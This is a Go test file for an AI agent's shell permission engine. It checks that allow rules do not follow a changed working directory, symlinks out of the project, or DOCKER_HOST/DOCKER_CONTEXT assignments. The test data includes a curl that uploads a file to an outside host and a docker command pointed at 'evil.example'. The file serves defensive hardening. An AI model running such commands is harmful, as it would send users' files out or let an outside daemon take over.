package permission_test

import (
	"testing"

	"github.com/custom-agent/custom-agent/permission"
)

// TestRuleDoesNotFollowTheCwdArgument: an allow rule someone wrote, or an
// answer made, allows its command where it was meant to run. The same
// words with the shell tool's cwd moved out of the working directory
// (~/other-project, the home) read or send what the rule never named, so
// only a rule naming that directory allows them there (sbx review 2, B1).
func TestRuleDoesNotFollowTheCwdArgument(t *testing.T) {
	t.Parallel()
	curl := "curl -s -F f=@notes.txt https://upload.example/"
	exact := permission.Rule{ID: "shell-curl-exact", Level: permission.LevelSession, Tool: "shell", Command: curl,
		Args: map[string]string{"command": permission.QuoteGlob(curl)}, Decision: permission.Allow}
	status := permission.Rule{ID: "shell-git-status", Level: permission.LevelUser, Tool: "shell", Command: "git status", Decision: permission.Allow}
	named := permission.Rule{ID: "shell-git-status-there", Level: permission.LevelUser, Tool: "shell", Command: "git status",
		Args: map[string]string{"cwd": "/home/u/other"}, Decision: permission.Allow}
	for _, c := range []struct {
		name  string
		rule  permission.Rule
		args  map[string]any
		ruled bool // the rule decides the call (allow)
	}{
		{"exact rule, no cwd", exact, map[string]any{"command": curl}, true},
		{"exact rule, cwd a subdirectory", exact, map[string]any{"command": curl, "cwd": "sub"}, true},
		{"exact rule, cwd another project", exact, map[string]any{"command": curl, "cwd": "/home/u/private-project"}, false},
		{"exact rule, cwd up and out", exact, map[string]any{"command": curl, "cwd": "../private-project"}, false},
		{"prefix rule, cwd the home", status, map[string]any{"command": "git status", "cwd": "/home/u"}, false},
		{"prefix rule, cwd the working directory", status, map[string]any{"command": "git status", "cwd": "/home/u/proj"}, true},
		{"rule naming the cwd", named, map[string]any{"command": "git status", "cwd": "/home/u/other"}, true},
		{"exact rule, cwd a link out", exact, map[string]any{"command": curl, "cwd": "link"}, false},
		{"exact rule, cwd through a link out", exact, map[string]any{"command": curl, "cwd": "./link/"}, false},
		{"prefix rule, cwd a link out, absolute", status, map[string]any{"command": "git status", "cwd": "/home/u/proj/link"}, false},
		{"prefix rule, cwd a link within", status, map[string]any{"command": "git status", "cwd": "inlink"}, true},
	} {
		t.Run(c.name, func(t *testing.T) {
			// link leads out of the project (a repository can ship it),
			// inlink to a directory inside it.
			req := newReq(t, "shell", c.args, withRules(t, c.rule), withResolved(map[string]string{
				"/home/u/proj/link": "/home/u/private", "/home/u/proj/inlink": "/home/u/proj/sub"}))
			var eng permission.Engine
			d := eng.Check(req)
			ruled := d.Decision == permission.Allow && d.Rule != nil && d.Rule.ID == c.rule.ID
			if ruled != c.ruled {
				t.Errorf("%s %v: decided %s by %v (%s); the rule decides it: %v, want %v", c.rule.ID, c.args, d.Decision, d.Rule, d.Reason, ruled, c.ruled)
			}
		})
	}
}

// TestRuleDoesNotCoverADaemonSetBeforeTheCommand: the words of a rule
// never hold the assignments before a command, so a rule made from
// `docker images` must not allow the same words sent to another daemon
// by DOCKER_HOST or DOCKER_CONTEXT (prop review 3, C3); the same daemon
// named by an option is a word a rule can name.
func TestRuleDoesNotCoverADaemonSetBeforeTheCommand(t *testing.T) {
	t.Parallel()
	images := permission.Rule{ID: "shell-docker-images", Level: permission.LevelSession, Tool: "shell", Command: "docker images", Decision: permission.Allow}
	for _, c := range []struct {
		cmd   string
		ruled bool
	}{
		{"docker images", true},
		{"DOCKER_HOST=tcp://evil.example:2375 docker images --filter reference=secret", false},
		{"DOCKER_CONTEXT=evil docker images", false},
	} {
		req := newReq(t, "shell", map[string]any{"command": c.cmd}, withRules(t, images))
		var eng permission.Engine
		d := eng.Check(req)
		if ruled := d.Decision == permission.Allow && d.Rule != nil && d.Rule.ID == images.ID; ruled != c.ruled {
			t.Errorf("%q: decided %s (%s); the rule decides it: %v, want %v", c.cmd, d.Decision, d.Reason, ruled, c.ruled)
		}
	}
}
